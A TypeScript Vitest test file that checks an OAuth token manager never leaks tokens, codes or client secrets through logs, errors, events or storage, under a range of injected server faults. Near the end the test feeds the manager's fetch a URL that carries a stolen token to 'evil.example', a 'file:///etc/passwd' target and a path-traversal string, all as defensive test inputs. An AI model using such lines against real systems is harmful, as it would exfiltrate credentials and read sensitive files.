import { inspect } from 'node:util';
import { afterEach, expect, it, vi } from 'vitest';
import { FlakyStore } from './flaky-store.fixture.ts';
import { Bench, MINUTE } from './manager.fixture.ts';

let bench: Bench;
afterEach(() => bench?.close());

/** Every form in which a value may reach a log. */
function formsOf(value: unknown): string {
  const json = (): string => {
    try {
      return JSON.stringify(value) ?? '';
    } catch {
      return '';
    }
  };
  const chain: unknown[] = [];
  for (let link = value; link instanceof Error && chain.length < 10; link = link.cause)
    chain.push(link.message, link.stack);
  return [inspect(value, { depth: 12, showHidden: true }), json(), String(value), ...chain.map(String)].join(
    '\n',
  );
}

/** The secret as it is, and as it looks encoded. */
function tracesOf(secret: string): string[] {
  const bytes = Buffer.from(secret);
  return [
    secret,
    bytes.toString('base64').slice(0, -4),
    bytes.toString('base64url').slice(0, -4),
    bytes.toString('hex'),
  ];
}

it('F96 F97 no token, code or secret in anything printed, logged, thrown, told or stored in the clear', async () => {
  bench = await Bench.open({ registrations: [{ tokenExpirationMs: 30 * MINUTE }] });
  const told: string[] = [];
  const keep = (...values: unknown[]): void => void told.push(...values.map(formsOf));
  const console = { debug: keep, info: keep, warn: keep, error: keep };
  for (const method of ['log', 'info', 'warn', 'error', 'debug'] as const)
    vi.spyOn(globalThis.console, method).mockImplementation(keep);
  const store = new FlakyStore();
  const manager = bench.manager({ store, logger: console, accessTokenLifetimeMs: 60 * MINUTE });
  for (const name of [
    'refreshed',
    'anomaly',
    'uncertain',
    'refreshFailed',
    'reauthorizationRequired',
    'persistFailed',
  ] as const) {
    manager.on(name, keep);
  }
  const connection = manager.connection('ann');
  const attempt = async (call: () => Promise<unknown>): Promise<void> => {
    keep(await call().catch((error: unknown) => error));
  };
  const failing = async (fault: Parameters<typeof bench.emulator.faults.add>[0]): Promise<void> => {
    const { code } = await bench.emulator.authorize();
    await connection.exchangeCode(code);
    const { id } = bench.emulator.faults.add(fault);
    await bench.clock.advance(30 * MINUTE);
    // Its result is the secret itself: only what it throws is kept.
    await attempt(() => connection.getAccessToken().then(() => 'a token'));
    await attempt(() => connection.status());
    await attempt(async () => connection.explain());
    await attempt(() => connection.history());
    bench.emulator.faults.remove(id);
  };

  const match = { endpoint: 'token', grantType: 'refresh_token' } as const;
  await failing({ match, kind: 'status', status: 503 });
  await failing({ match, kind: 'wrap-root' });
  await failing({ match, kind: 'omit-field', field: 'access_token' });
  await failing({ match, kind: 'malformed-xml' });
  await failing({ match, kind: 'reset-after-commit' });
  await failing({ match, kind: 'html' });
  await failing({ match, kind: 'status', status: 400, body: '{"error":"invalid_client"}' });

  await attempt(() => connection.exchangeCode('a code with spaces'));
  await attempt(() => connection.exchangeCode(`${process.env.HQ_EMULATOR_TOKEN_MARKER ?? ''}never-issued`));
  await attempt(() => connection.importTokens('<TokenResponse><access_token>x</access_token>'));
  const stolen = bench.emulator.ledger.entries.at(-1)?.token ?? '';
  await attempt(() => connection.importTokens({ access_token: `${stolen} x`, refresh_token: stolen }));
  for (const target of [
    `https://evil.example/?t=${stolen}`,
    `//${stolen}@evil.example/`,
    'file:///etc/passwd',
    '../../x',
  ]) {
    await attempt(() => connection.fetch(target));
  }
  store.down = true;
  await attempt(() => bench.manager({ store }).connection('ann').getAccessToken());
  await attempt(async () => manager.health());
  store.down = false;
  for await (const status of manager.connections()) keep(status);
  keep(manager, connection);

  const secrets = [
    ...new Set(bench.emulator.ledger.entries.map(({ token }) => token)),
    bench.emulator.env.HIGHQ_CLIENT_SECRET,
  ];
  expect(secrets.length).toBeGreaterThan(20);
  const written = store.writes.map(({ body }) => body);
  const all = [...told, ...written].join('\n');
  expect(told.length).toBeGreaterThan(40);
  expect(written.length).toBeGreaterThan(10);
  const found = secrets.flatMap((secret) =>
    tracesOf(secret).filter((trace) => trace.length > 8 && all.includes(trace)),
  );
  expect(found).toHaveLength(0);
  expect(all).toContain(Buffer.from('{"alg":"dir"').toString('base64url').slice(0, 12));
  vi.restoreAllMocks();
});
